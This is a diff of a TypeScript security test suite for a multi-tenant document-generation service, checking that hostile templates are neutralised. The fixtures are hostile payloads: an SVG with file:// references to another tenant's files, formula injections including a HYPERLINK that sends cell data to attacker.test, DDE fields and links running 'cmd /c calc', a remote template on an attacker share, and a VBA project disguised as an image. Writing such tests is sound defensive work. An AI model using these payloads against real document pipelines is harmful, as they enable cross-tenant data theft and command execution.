@@ -84,7 +84,10 @@ describe('hostile content from one tenant', () => {
   afterAll(async () => {
     clearInterval(sampler);
     const mb = (n: number) => `${Math.round(n / 1024 / 1024)} MB`;
-    if (peak.total) console.log(`[hostile-content] peak RSS: ${mb(peak.total)} in all; this process (test runner, API, worker, merge threads) ${mb(peak.self)}, its LibreOffice processes ${mb(peak.children)}`);
+    if (peak.total)
+      console.log(
+        `[hostile-content] peak RSS: ${mb(peak.total)} in all; this process (test runner, API, worker, merge threads) ${mb(peak.self)}, its LibreOffice processes ${mb(peak.children)}`,
+      );
     await stack?.stop();
     if (dir) fs.rmSync(dir, { recursive: true, force: true });
   });
@@ -98,7 +101,8 @@ describe('hostile content from one tenant', () => {
     return { res, ms: Math.round(performance.now() - t0) };
   }
 
-  const report = (name: string, status: number, code: string | undefined, ms: number) => console.log(`[hostile-content] ${name}: ${status}${code ? ` ${code}` : ''} in ${ms} ms`);
+  const report = (name: string, status: number, code: string | undefined, ms: number) =>
+    console.log(`[hostile-content] ${name}: ${status}${code ? ` ${code}` : ''} in ${ms} ms`);
 
   it("tenant B's svgz image names tenant A's stored document and host files: B's pdf shows none of them", async () => {
     // Tenant A's document: a pdf whose first page says A's secret.
@@ -114,15 +118,17 @@ describe('hostile content from one tenant', () => {
     fs.writeFileSync(path.join(dir, 'host.pdf'), fs.readFileSync(storedPath));
     fs.writeFileSync(path.join(dir, 'host.png'), png([20, 200, 20]));
     const targets = [storedPath, path.join(dir, 'host.pdf'), path.join(dir, 'host.png')];
-    const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="${100 * targets.length}" height="100">` +
-      targets.map((t, i) => `<image x="${i * 100}" y="0" width="100" height="100" href="file://${t}" xlink:href="file://${t}"/>`).join('') + '</svg>';
+    const svg =
+      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="${100 * targets.length}" height="100">` +
+      targets.map((t, i) => `<image x="${i * 100}" y="0" width="100" height="100" href="file://${t}" xlink:href="file://${t}"/>`).join('') +
+      '</svg>';
     const template = makeDocx({
       body: para('Report for {name}') + pictureRun('rIdSvg', 'embed', 1),
       rels: `<Relationship Id="rIdSvg" Type="${REL}/image" Target="media/i.svg"/>`,
       extra: { 'word/media/i.svg': gzipSync(svg) },
     });
     const { res, ms } = await generate(b, template, 'docx', { name: 'B' }, 'pdf');
-    report('svgz naming another tenant\'s document and host files, pdf', res.status, undefined, ms);
+    report("svgz naming another tenant's document and host files, pdf", res.status, undefined, ms);
     expect(res.status, JSON.stringify(res.body)).toBe(201);
     const pdf = (await b.download(res.body.result.data.document.urn)).bytes;
     const text = poppler('pdftotext', pdf);
@@ -133,7 +139,9 @@ describe('hostile content from one tenant', () => {
   });
 
   it('csv output of formula-injection payloads is text', async () => {
-    const workbook = makeXlsx([{ name: 'Data', rows: [['{v}'], ['=HYPERLINK("http://attacker.test/?x="&A3,"Click")', "=cmd|' /C calc'!A0", '@SUM(1+1)', -5]] }]);
+    const workbook = makeXlsx([
+      { name: 'Data', rows: [['{v}'], ['=HYPERLINK("http://attacker.test/?x="&A3,"Click")', "=cmd|' /C calc'!A0", '@SUM(1+1)', -5]] },
+    ]);
     const { res, ms } = await generate(b, workbook, 'xlsx', { v: '-2+3+cmd|x' }, 'csv');
     report('formula-injection payloads, csv', res.status, undefined, ms);
     expect(res.status, JSON.stringify(res.body)).toBe(201);
@@ -146,12 +154,15 @@ describe('hostile content from one tenant', () => {
 
   it('a docx output carries no DDE field and no remote template', async () => {
     const template = makeDocx({
-      body: para('Dear {name}') + fieldRun('DDEAUTO "cmd" "/c calc" \\\\* MERGEFORMAT', 'cached one') +
+      body:
+        para('Dear {name}') +
+        fieldRun('DDEAUTO "cmd" "/c calc" \\\\* MERGEFORMAT', 'cached one') +
         '<w:p><w:fldSimple w:instr=" DDE excel &quot;C:\\\\x.xls&quot; R1C1 "><w:r><w:t>cached two</w:t></w:r></w:fldSimple></w:p>',
       rels: `<Relationship Id="rIdS" Type="${REL}/settings" Target="settings.xml"/>`,
       extra: {
         'word/settings.xml': `${XML}<w:settings xmlns:w="${W}" xmlns:r="${REL}"><w:attachedTemplate r:id="rIdT"/></w:settings>`,
-        'word/_rels/settings.xml.rels': `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
+        'word/_rels/settings.xml.rels':
+          `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
           `<Relationship Id="rIdT" Type="${REL}/attachedTemplate" Target="\\\\attacker.test\\share\\t.dotm" TargetMode="External"/></Relationships>`,
       },
     });
@@ -175,20 +186,42 @@ describe('hostile content from one tenant', () => {
     const r1 = await generate(b, dde, 'xlsx', { title: 'T' }, 'xlsx');
     report('DDE formula, xlsx', r1.res.status, undefined, r1.ms);
     expect(r1.res.status, JSON.stringify(r1.res.body)).toBe(201);
-    const sheet = entryText(readZip((await b.download(r1.res.body.result.data.document.urn)).bytes).find((e) => e.name === 'xl/worksheets/sheet1.xml')!);
+    const sheet = entryText(
+      readZip((await b.download(r1.res.body.result.data.document.urn)).bytes).find((e) => e.name === 'xl/worksheets/sheet1.xml')!,
+    );
     expect(sheet).not.toContain('cmd|');
     expect(sheet).toMatch(/<c r="B1"><f><\/f><v>7<\/v><\/c>/);
 
     const ddeLink = withParts(makeXlsx([{ name: 'S', rows: [['{title}']] }]), {
-      'xl/externalLinks/externalLink1.xml': () => `${XML}<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>`,
-      'xl/_rels/workbook.xml.rels': (x) => x.replace('</Relationships>', `<Relationship Id="rIdE" Type="${REL}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`),
+      'xl/externalLinks/externalLink1.xml': () =>
+        `${XML}<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>`,
+      'xl/_rels/workbook.xml.rels': (x) =>
+        x.replace(
+          '</Relationships>',
+          `<Relationship Id="rIdE" Type="${REL}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`,
+        ),
     });
     const macro = makeDocx({
       body: para('Dear {name}'),
       rels: '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="media/image9.png"/>',
-      extra: { 'word/media/image9.png': new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...Buffer.from('_VBA_PROJECT', 'utf16le')]) },
+      extra: {
+        'word/media/image9.png': new Uint8Array([
+          0xd0,
+          0xcf,
+          0x11,
+          0xe0,
+          0xa1,
+          0xb1,
+          0x1a,
+          0xe1,
+          ...Buffer.from('_VBA_PROJECT', 'utf16le'),
+        ]),
+      },
     });
-    for (const [name, tpl, fmt, part] of [['DDE link, xlsx', ddeLink, 'xlsx', /xl\/externalLinks\/externalLink1\.xml: DDE links are refused/], ['macro relationship to a renamed part, docx', macro, 'docx', /vbaProject relationship to media\/image9\.png/]] as const) {
+    for (const [name, tpl, fmt, part] of [
+      ['DDE link, xlsx', ddeLink, 'xlsx', /xl\/externalLinks\/externalLink1\.xml: DDE links are refused/],
+      ['macro relationship to a renamed part, docx', macro, 'docx', /vbaProject relationship to media\/image9\.png/],
+    ] as const) {
       const { res, ms } = await generate(b, tpl, fmt, { title: 'T', name: 'B' }, fmt);
       const code = res.body?.error?.innerErrors?.[0]?.code as string | undefined;
       report(name, res.status, code, ms);
